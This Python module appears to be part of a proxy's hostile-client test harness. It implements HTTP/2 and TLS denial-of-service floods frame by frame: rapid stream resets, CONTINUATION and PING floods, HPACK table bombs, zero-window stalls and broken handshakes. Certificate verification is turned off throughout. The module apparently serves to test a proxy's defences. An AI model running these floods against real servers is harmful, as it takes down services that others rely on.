"""HTTP/2 and TLS attackers of tools/hostile, frame by frame (RFC 9113 section 10.5). Each call is one connection."""

import asyncio
import contextlib
import itertools
import os
import socket
import ssl
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4
BATCH = 20  # frames a write


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def field(name, value):
    """A literal without indexing, its name in full (RFC 7541 section 6.2.2); up to 126 bytes each."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request(path, origin, stream, flags=END_STREAM | END_HEADERS):
    block = b"\x82\x86" + field(b":path", path) + field(b":authority", origin)  # GET, http
    return frame(HEADERS, flags, stream, block)


# Each flood is called with the origin and yields what the client sends.

def resets(origin):
    for stream in itertools.count(1, 2):
        yield request(b"/hot/0", origin, stream) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")


def provoked_resets(origin):
    for stream in itertools.count(1, 2):
        yield request(b"/hot/0", origin, stream) + frame(WINDOW_UPDATE, 0, stream, bytes(4))


def continuations(origin):
    yield request(b"/hot/0", origin, 1, END_STREAM)
    while True:
        yield frame(CONTINUATION, 0, 1, field(b"x-name", b"v" * 100) * 100)


def pings(_):
    while True:
        yield frame(PING, 0, 0, b"12345678")


def settings(_):
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 65_535))


def priorities(_):
    for stream in itertools.count(1, 2):
        yield frame(PRIORITY, 0, stream % 2**31, b"\0\0\0\0\x10")


def empty_data(origin):
    yield request(b"/hot/0", origin, 1, END_HEADERS)
    while True:
        yield frame(DATA, 0, 1)


def window_updates(origin):
    yield request(b"/big/0", origin, 1)
    while True:
        yield frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\x01")


def table_bomb(origin, repeats):
    """Each head names one field of 4,000 bytes many times by its index in the dynamic table (RFC 7541 section 6.1)."""
    long_field = b"\x40\x01x\x7f\xa1\x1e" + b"v" * 4000
    for stream in itertools.count(1, 2):
        block = b"\x82\x86" + field(b":path", b"/hot/0") + field(b":authority", origin)
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block + (long_field if stream == 1 else b"") + b"\xbe" * repeats)


def large_bombs(origin):
    return table_bomb(origin, 4000)


def small_bombs(origin):
    """Each head is within limits.head_bytes."""
    return table_bomb(origin, 14)


def no_windows(origin):
    """Large responses of which nothing may be sent."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    for stream in range(1, 200, 2):
        yield request(b"/big/%d" % (stream % 9), origin, stream)


def large_head(path, origin, stream, size=14_200):
    """Within limits.head_max: four literals of this size without indexing, with names of one byte (RFC 7541 section 6.2.2)."""
    length = bytes([0x7f, (size - 127) % 128 + 128, (size - 127) // 128])
    block = b"\x82\x86" + field(b":path", path) + field(b":authority", origin)
    block += b"".join(b"\0\1" + name + length + b"v" * size for name in (b"a", b"b", b"c", b"d"))
    pieces = [block[at:at + 16_000] for at in range(0, len(block), 16_000)]
    last = END_HEADERS if len(pieces) == 1 else 0
    sends = frame(HEADERS, END_STREAM | last, stream, pieces[0])
    for piece in pieces[1:]:
        sends += frame(CONTINUATION, END_HEADERS if piece is pieces[-1] else 0, stream, piece)
    return sends


def head_of_8_kb(path, origin):
    """The first bytes of a connection."""
    cookie = b"\0\6cookie\x7f\xc1\x3d" + b"c" * 8_000
    block = b"\x82\x86" + field(b":path", path) + field(b":authority", origin) + cookie
    return PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_STREAM | END_HEADERS, 1, block)


def is_accepted(file):
    """Reads frames up to the response's head. True if its status is 200 (RFC 7541 appendix A, index 8)."""
    while len(begin := file.read(9)) == 9:
        payload = file.read(int.from_bytes(begin[:3], "big"))
        if begin[3] == HEADERS:
            return payload[0] == 0x88
    return False


FLOODS = (resets, provoked_resets, continuations, pings, settings, priorities, empty_data, window_updates, large_bombs,
          small_bombs, no_windows)


def context():
    trusting = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    trusting.check_hostname, trusting.verify_mode = False, ssl.CERT_NONE
    trusting.set_alpn_protocols(["h2"])
    return trusting


async def opened(proxy, source, tls):
    return await asyncio.wait_for(asyncio.open_connection(*proxy, ssl=tls, local_addr=(source, 0)), 5)


async def drop(reader):
    with contextlib.suppress(OSError):
        while await reader.read(65536):
            pass


async def flood(proxy, source, origin, frames):
    """One connection that sends until the proxy closes it, or for 10 s. An attacker reads, or no flood gets far."""
    with contextlib.suppress(OSError, asyncio.TimeoutError, ssl.SSLError):
        reader, writer = await opened(proxy, source, context())
        reading = asyncio.create_task(drop(reader))
        writer.write(PREFACE + frame(SETTINGS, 0, 0))
        sends = frames(origin.encode())
        with contextlib.closing(writer):
            end = asyncio.get_running_loop().time() + 10
            while not reading.done() and asyncio.get_running_loop().time() < end:
                writer.write(b"".join(itertools.islice(sends, BATCH)))
                await asyncio.wait_for(writer.drain(), 5)
                await asyncio.sleep(0.001)
            reading.cancel()


async def unread(proxy, source, origin, request_of):
    """100 streams of one connection, of whose responses nothing is read for 10 s."""
    with contextlib.suppress(OSError, asyncio.TimeoutError, ssl.SSLError):
        connection = socket.socket()
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.setblocking(False)
        connection.bind((source, 0))
        await asyncio.wait_for(asyncio.get_running_loop().sock_connect(connection, proxy), 5)
        _, writer = await asyncio.wait_for(asyncio.open_connection(sock=connection, ssl=context(), server_hostname="x"), 5)
        writer.transport.pause_reading()  # the reader itself pauses at 128 kB only
        with contextlib.closing(writer):
            writer.write(PREFACE + frame(SETTINGS, 0, 0))
            for stream in range(1, 200, 2):
                writer.write(request_of(stream, origin.encode()))
            await asyncio.sleep(10)


async def hold(proxy, source, addresses, port):
    """One connection with a stream to each of these origins, until the proxy closes it."""
    with contextlib.suppress(OSError, asyncio.TimeoutError, ssl.SSLError):
        reader, writer = await opened(proxy, source, context())
        with contextlib.closing(writer):
            writer.write(PREFACE + frame(SETTINGS, 0, 0))
            path = b"/" + os.urandom(8).hex().encode()  # other connections do not follow these fetches
            writer.write(b"".join(request(path, f"{address}:{port}".encode(), 2 * i + 1)
                                  for i, address in enumerate(addresses)))
            await writer.drain()
            await drop(reader)


async def handshake(proxy, source):
    """A full handshake and no request: it costs the proxy most of what one client may make it compute."""
    with contextlib.suppress(OSError, asyncio.TimeoutError, ssl.SSLError):
        _, writer = await opened(proxy, source, context())
        writer.close()


async def broken(proxy, source):
    """A handshake that stops in the middle, bytes that are no TLS, or a record cut short."""
    with contextlib.suppress(OSError, asyncio.TimeoutError):
        reader, writer = await asyncio.wait_for(asyncio.open_connection(*proxy, local_addr=(source, 0)), 5)
        hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(32)
        with contextlib.closing(writer):
            writer.write((hello, os.urandom(600), b"GET / HTTP/1.1\r\n\r\n")[os.urandom(1)[0] % 3])
            await asyncio.wait_for(drop(reader), 2)
